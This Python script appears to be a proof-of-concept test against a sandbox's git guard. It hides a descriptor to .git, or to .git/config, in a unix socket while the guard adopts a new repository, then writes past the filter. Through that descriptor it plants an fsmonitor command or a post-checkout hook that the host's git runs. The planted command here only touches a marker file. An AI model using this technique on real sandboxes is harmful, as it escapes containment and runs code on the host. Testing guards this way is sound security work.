"""An attack on the git guard's adoption of a new repository, run in the current directory.

A `.git` made while the sandbox runs stands unfiltered until the guard adopts it. A descriptor
opened in that moment and passed through a unix socket is in no process's table while the guard
looks, so it survives adoption; received afterwards, it writes past the filter.

    git_inflight.py MODE MARKER

MODE: `file` keeps a descriptor of .git/config; `dir-write`, `dir-mmap` and `dir-hook` keep one
of .git itself and write config (by write(2) or a shared mapping) or a hook through it;
`dir-moved` first renames the directory above .git (to NAME-moved), then writes config. The
planted command touches MARKER when the host's git runs it. Prints what git says the
repository is at the end.
"""

import array
import mmap
import os
import socket
import subprocess
import sys
import time

mode, marker = sys.argv[1], sys.argv[2]
planted = ('[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "touch %s; false"\n' % marker).encode()


def keep_in_flight(fd):
    """Sends fd through a socket pair and closes it here: from now on no process holds it."""
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    os.close(fd)
    return ours, theirs


def receive(theirs):
    _, ancillary, _, _ = theirs.recvmsg(1, socket.CMSG_LEN(4))
    return array.array("i", ancillary[0][2][:4])[0]


os.mkdir(".git")
if mode == "file":
    held = os.open(".git/config", os.O_CREAT | os.O_WRONLY, 0o644)
    os.write(held, b"[core]\n\trepositoryformatversion = 0\n")
else:
    held = os.open(".git", os.O_RDONLY | os.O_DIRECTORY)
sockets = keep_in_flight(held)
time.sleep(3)  # the guard adopts the repository meanwhile
if mode == "file":
    # Made by hand, so that config stays the file the descriptor holds.
    os.makedirs(".git/objects")
    os.makedirs(".git/refs/heads")
    with open(".git/HEAD", "w") as head:
        head.write("ref: refs/heads/main\n")
else:
    subprocess.run(["git", "init", "-q", "."], check=False)
    subprocess.run(
        ["git", "-c", "user.name=a", "-c", "user.email=b", "commit", "-q", "--allow-empty", "-m", "first"], check=False)
fd = receive(sockets[1])
if mode == "dir-moved":
    here = os.getcwd()
    os.rename(here, here + "-moved")
    os.chdir(here + "-moved")
if mode == "file":
    os.lseek(fd, 0, os.SEEK_SET)
    os.ftruncate(fd, 0)
    os.write(fd, planted)
    os.close(fd)
elif mode in ("dir-write", "dir-moved"):
    config = os.open("config", os.O_WRONLY | os.O_TRUNC, dir_fd=fd)
    os.write(config, planted)
    os.close(config)
elif mode == "dir-mmap":
    config = os.open("config", os.O_RDWR, dir_fd=fd)
    size = max(os.fstat(config).st_size, len(planted))
    os.ftruncate(config, size)
    mapping = mmap.mmap(config, size)
    os.close(config)
    os.close(fd)
    mapping[:] = planted + b"#" * (size - len(planted))
    mapping.flush()
    time.sleep(3)  # held past the guard's next look
    mapping.close()
elif mode == "dir-hook":
    hook = os.open("hooks/post-checkout", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=fd)
    os.write(hook, ("#!/bin/sh\ntouch %s\n" % marker).encode())
    os.close(hook)
time.sleep(1)
print(subprocess.run(["git", "rev-parse", "--git-dir"], capture_output=True, text=True).stdout.strip() or "no repository")
